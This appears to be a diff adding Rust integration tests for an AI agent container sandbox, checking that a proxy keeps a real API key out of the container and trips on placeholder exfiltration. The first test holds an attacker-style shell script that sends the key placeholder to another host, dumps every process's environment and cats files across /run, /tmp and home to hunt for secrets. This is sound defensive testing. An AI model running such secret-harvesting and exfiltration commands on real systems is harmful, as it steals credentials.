@@ -1,0 +1,346 @@
+//! Secrets stay on the host (issue 25, docs/credentials.md), performed as attacks on real
+//! Podman, rootful and rootless. A scripted model endpoint speaks HTTPS with a certificate of a
+//! test CA (`[image] ca_certs`) and answers 401 unless the request carries the real key in the
+//! declared header (the real API's contract). The agent gets only a placeholder: it reaches
+//! the endpoint through the proxy, which puts the real value in; nothing it can read holds the
+//! real value; sending the placeholder elsewhere trips the tripwire; claude and codex answer
+//! through it. The endpoints listen on this machine's own address or on loopback, never
+//! elsewhere.
+
+use crate::common;
+
+use std::path::PathBuf;
+use std::process::{Command, Output};
+use std::time::Duration;
+
+use serde_json::Value;
+
+use common::agents::{AGENT_IMAGE, Endpoint, REPLY, codex_provider, endpoint_with, host_address};
+use common::launch::{assert_clean, files_containing, podman_storage_dirs, stdout};
+
+use common::{TestEnv, each_mode, run_command, show};
+
+/// The real key: assembled at run time, so no file of the test holds it.
+fn real_key(env: &TestEnv) -> String {
+    let word: String = env.id().chars().filter(char::is_ascii_alphanumeric).collect();
+    format!("sk-ant-api03-{}{}", "RealKey", word)
+}
+
+/// A test CA and a certificate for `name` signed by it: (CA PEM path, cert path, key path).
+fn test_pki(dir: &std::path::Path, name: &str) -> (PathBuf, PathBuf, PathBuf) {
+    use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
+    std::fs::create_dir_all(dir).unwrap();
+    let ca_key = KeyPair::generate().unwrap();
+    let mut ca = CertificateParams::new(Vec::<String>::new()).unwrap();
+    ca.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
+    let ca_pem = ca.self_signed(&ca_key).unwrap().pem();
+    let issuer = Issuer::new(ca, ca_key);
+    let leaf_key = KeyPair::generate().unwrap();
+    let leaf = CertificateParams::new(vec![name.to_string()])
+        .unwrap()
+        .signed_by(&leaf_key, &issuer)
+        .unwrap();
+    let paths = (dir.join("ca.pem"), dir.join("ep.pem"), dir.join("ep.key"));
+    std::fs::write(&paths.0, ca_pem).unwrap();
+    std::fs::write(&paths.1, leaf.pem()).unwrap();
+    std::fs::write(&paths.2, leaf_key.serialize_pem()).unwrap();
+    (paths.0, paths.1, paths.2)
+}
+
+/// An HTTPS endpoint on `addr` requiring `header=value`, logging to `log`.
+fn tls_endpoint(
+    addr: &str,
+    pki: &(PathBuf, PathBuf, PathBuf),
+    header: &str,
+    value: &str,
+    log: &std::path::Path,
+) -> Endpoint {
+    let (cert, key) = (pki.1.to_str().unwrap(), pki.2.to_str().unwrap());
+    let required = format!("{header}={value}");
+    let log = log.to_str().unwrap();
+    endpoint_with(
+        addr,
+        &[
+            "--tls-cert",
+            cert,
+            "--tls-key",
+            key,
+            "--require-header",
+            &required,
+            "--log",
+            log,
+        ],
+    )
+}
+
+fn read_jsonl(text: &str) -> Vec<Value> {
+    text.lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect()
+}
+
+fn egress_log(env: &TestEnv) -> Vec<Value> {
+    read_jsonl(&stdout(&env.run(["log", "--egress", "--json", "-n", "1000"])))
+}
+
+/// Run `agent` with the real key in `key_var` taken from ags's environment (never argv).
+fn launch(env: &TestEnv, agent: &str, key: (&str, &str), envs: &[String], args: &[&str]) -> Output {
+    let mut all: Vec<String> = [
+        "--tty=false",
+        "--image",
+        AGENT_IMAGE,
+        "--label",
+        &env.label(),
+        "--agent",
+        agent,
+    ]
+    .iter()
+    .map(|s| s.to_string())
+    .collect();
+    all.extend(["--env".to_string(), key.0.to_string()]);
+    for e in envs {
+        all.extend(["--env".to_string(), e.clone()]);
+    }
+    all.push("--".into());
+    all.extend(args.iter().map(|s| s.to_string()));
+    let mut cmd: Command = env.cmd(&all);
+    cmd.env(key.0, key.1);
+    run_command(cmd, None, Duration::from_secs(300))
+}
+
+fn has_agent_image(env: &TestEnv) -> bool {
+    let found = common::api::image_exists(&env.mode().socket(), AGENT_IMAGE).unwrap_or(false);
+    if !found {
+        println!("SKIP: {}: no {AGENT_IMAGE} in this service", env.mode());
+    }
+    found
+}
+
+/// In allowlist mode: the key works only through the proxy, the container never holds it, and
+/// the placeholder sent to another host is refused and recorded.
+#[test]
+fn the_real_key_reaches_its_host_and_nothing_the_agent_can_read() {
+    let Some(addr) = host_address() else {
+        println!("SKIP: no address of this machine from `hostname -I`");
+        return;
+    };
+    each_mode(|env| {
+        if !has_agent_image(env) {
+            return;
+        }
+        let real = real_key(env);
+        let pki = test_pki(&env.root().join("pki"), &addr);
+        let ep_log = env.root().join("endpoint.jsonl");
+        let ep = tls_endpoint(&addr, &pki, "x-api-key", &real, &ep_log);
+        let other = endpoint_with(&addr, &[]);
+        env.write_global_config(&format!(
+            "[network]\nmode = \"allowlist\"\nagent_hosts = false\nallow = [\"{addr}:{}\", \"{addr}:{}\"]\n\n[image]\nca_certs = [\"{}\"]\n",
+            ep.port,
+            other.port,
+            pki.0.display()
+        ));
+        let marker = env.write_file("marker", "", 0o644);
+        std::thread::sleep(Duration::from_millis(20));
+        let script = format!(
+            r#"echo "placeholder=$ANTHROPIC_API_KEY"
+            curl -sS https://{addr}:{p}/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" -H "x-echo: $ANTHROPIC_API_KEY" -d '{{}}'; echo
+            echo "wrong=$(curl -sS -o /dev/null -w '%{{http_code}}' https://{addr}:{p}/v1/messages -H 'x-api-key: sk-ant-api03-guess' -d '{{}}')"
+            curl -sS http://{addr}:{o}/v1/messages -H "authorization: Bearer $ANTHROPIC_API_KEY" -d '{{}}'; echo
+            echo "tunnelled=$(curl -sS -o /dev/null -w '%{{http_code}}' --proxytunnel -x http://127.0.0.1:3128 http://{addr}:{o}/x -H "x-api-key: $ANTHROPIC_API_KEY")"
+            for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f"; done
+            find /run /tmp "$HOME" /workspace -type f -exec cat {{}} + 2>/dev/null | tr -c '[:print:]\n' ' '"#,
+            p = ep.port,
+            o = other.port,
+        );
+        let base = format!("ANTHROPIC_BASE_URL=https://{addr}:{}", ep.port);
+        let out = launch(
+            env,
+            "shell",
+            ("ANTHROPIC_API_KEY", &real),
+            &[base],
+            &["sh", "-c", &script],
+        );
+        let text = stdout(&out);
+        assert_eq!(out.status.code(), Some(0), "{}", show(&out));
+        assert!(
+            !text.contains(&real),
+            "{}: the real key inside the container:\n{text}",
+            env.mode()
+        );
+        let placeholder = text
+            .lines()
+            .find_map(|l| l.strip_prefix("placeholder="))
+            .unwrap_or_default()
+            .to_string();
+        assert!(
+            placeholder.starts_with("sk-ant-api03-") && placeholder.len() >= real.len(),
+            "{}: not a placeholder of the key's shape: {placeholder:?}",
+            env.mode()
+        );
+        assert!(
+            text.contains("message_start"),
+            "{}: the endpoint did not answer: {}",
+            env.mode(),
+            show(&out)
+        );
+        assert!(text.contains("wrong=401"), "{}: {text}", env.mode());
+        assert!(
+            text.contains("tripwire"),
+            "{}: the placeholder went elsewhere: {text}",
+            env.mode()
+        );
+
+        let seen = read_jsonl(&std::fs::read_to_string(&ep_log).unwrap_or_default());
+        assert_eq!(seen.len(), 2, "{}: {seen:#?}", env.mode());
+        assert_eq!(seen[0]["key_ok"], true, "{}: {seen:#?}", env.mode());
+        assert_eq!(
+            seen[0]["real_elsewhere"], false,
+            "only the declared header: {seen:#?}"
+        );
+        let log = egress_log(env);
+        let to_ep: Vec<&Value> = log.iter().filter(|r| r["port"] == ep.port).collect();
+        assert!(
+            to_ep.iter().any(|r| r["substituted"]["ANTHROPIC_API_KEY"] == 1),
+            "{}: {to_ep:#?}",
+            env.mode()
+        );
+        let trips: Vec<&Value> = log
+            .iter()
+            .filter(|r| r["port"] == other.port && r["decision"] == "tripwire")
+            .collect();
+        assert_eq!(trips.len(), 1, "{}: {log:#?}", env.mode());
+        let all_log = serde_json::to_string(&log).unwrap();
+        assert!(
+            !all_log.contains(&real) && !all_log.contains(&placeholder),
+            "values in the egress log"
+        );
+        assert!(!show(&out).contains(&real), "the real key in ags's output");
+
+        let mut dirs = podman_storage_dirs(env);
+        dirs.push(env.root().to_path_buf());
+        let found = files_containing(&dirs, &[&real], Some(&marker));
+        assert!(
+            found.is_empty(),
+            "{}: the real key on disk: {found:?}",
+            env.mode()
+        );
+        assert_clean(env);
+    });
+}
+
+/// Open mode runs the proxy too when a key goes through it; the proxy, on the host, does not
+/// reach the host's own loopback for the agent.
+#[test]
+fn open_mode_substitutes_and_keeps_the_hosts_loopback_out() {
+    let Some(addr) = host_address() else {
+        println!("SKIP: no address of this machine from `hostname -I`");
+        return;
+    };
+    each_mode(|env| {
+        if !has_agent_image(env) {
+            return;
+        }
+        let real = real_key(env);
+        let pki = test_pki(&env.root().join("pki"), &addr);
+        let ep_log = env.root().join("endpoint.jsonl");
+        let ep = tls_endpoint(&addr, &pki, "x-api-key", &real, &ep_log);
+        let local = endpoint_with("127.0.0.1", &[]);
+        env.write_global_config(&format!("[image]\nca_certs = [\"{}\"]\n", pki.0.display()));
+        let script = format!(
+            r#"curl -sS https://{addr}:{p}/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" -d '{{}}'; echo
+            echo "local=$(curl -sS --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:{l}/v1/messages -d '{{}}')""#,
+            p = ep.port,
+            l = local.port,
+        );
+        let base = format!("ANTHROPIC_BASE_URL=https://{addr}:{}", ep.port);
+        let out = launch(
+            env,
+            "shell",
+            ("ANTHROPIC_API_KEY", &real),
+            &[base],
+            &["sh", "-c", &script],
+        );
+        let text = stdout(&out);
+        assert_eq!(out.status.code(), Some(0), "{}", show(&out));
+        assert!(text.contains("message_start"), "{}: {}", env.mode(), show(&out));
+        let local = text.lines().find(|l| l.starts_with("local=")).unwrap_or_default();
+        assert!(
+            local.contains("loopback or link-local") && !local.contains(REPLY),
+            "{}: the host's loopback: {text}",
+            env.mode()
+        );
+        let seen = read_jsonl(&std::fs::read_to_string(&ep_log).unwrap_or_default());
+        assert!(
+            seen.iter().all(|r| r["key_ok"] == true) && seen.len() == 1,
+            "{seen:#?}"
+        );
+        assert_clean(env);
+    });
+}
+
+/// Real agents: claude (x-api-key from the built-in table, its base URL from the command line)
+/// and codex (a `[[credential]]` with a Bearer token) answer through the substituting proxy.
+#[test]
+fn claude_and_codex_answer_with_only_a_placeholder() {
+    let Some(addr) = host_address() else {
+        println!("SKIP: no address of this machine from `hostname -I`");
+        return;
+    };
+    each_mode(|env| {
+        if !has_agent_image(env) {
+            return;
+        }
+        let real = real_key(env);
+        let pki = test_pki(&env.root().join("pki"), &addr);
+        let claude_log = env.root().join("claude.jsonl");
+        let claude_ep = tls_endpoint(&addr, &pki, "x-api-key", &real, &claude_log);
+        let codex_log = env.root().join("codex.jsonl");
+        let codex_ep = tls_endpoint(
+            &addr,
+            &pki,
+            "authorization",
+            &format!("Bearer {real}"),
+            &codex_log,
+        );
+        env.write_global_config(&format!(
+            "[network]\nmode = \"allowlist\"\nagent_hosts = false\nallow = [\"{addr}:{c}\", \"{addr}:{x}\"]\n\n\
+             [image]\nca_certs = [\"{ca}\"]\n\n\
+             [[credential]]\nenv = \"SCRIPTED_KEY\"\nhosts = [\"{addr}:{x}\"]\n",
+            c = claude_ep.port,
+            x = codex_ep.port,
+            ca = pki.0.display()
+        ));
+        let base = format!("ANTHROPIC_BASE_URL=https://{addr}:{}", claude_ep.port);
+        let out = launch(
+            env,
+            "claude",
+            ("ANTHROPIC_API_KEY", &real),
+            &[base, "DISABLE_TELEMETRY=1".into()],
+            &["-p", "say hi"],
+        );
+        assert_eq!(out.status.code(), Some(0), "claude: {}", show(&out));
+        assert!(stdout(&out).contains(REPLY), "claude: {}", show(&out));
+        let seen = read_jsonl(&std::fs::read_to_string(&claude_log).unwrap_or_default());
+        assert!(
+            !seen.is_empty() && seen.iter().all(|r| r["key_ok"] == true),
+            "claude: {seen:#?}"
+        );
+
+        let codex_args: Vec<String> = ["exec", "--skip-git-repo-check"]
+            .into_iter()
+            .map(String::from)
+            .chain(codex_provider(&format!("https://{addr}:{}", codex_ep.port)))
+            .chain(["say hi".to_string()])
+            .collect();
+        let codex_args: Vec<&str> = codex_args.iter().map(String::as_str).collect();
+        let out = launch(env, "codex", ("SCRIPTED_KEY", &real), &[], &codex_args);
+        assert_eq!(out.status.code(), Some(0), "codex: {}", show(&out));
+        assert!(stdout(&out).contains(REPLY), "codex: {}", show(&out));
+        let seen = read_jsonl(&std::fs::read_to_string(&codex_log).unwrap_or_default());
+        assert!(
+            !seen.is_empty() && seen.iter().all(|r| r["key_ok"] == true),
+            "codex: {seen:#?}"
+        );
+        assert_clean(env);
+    });
+}
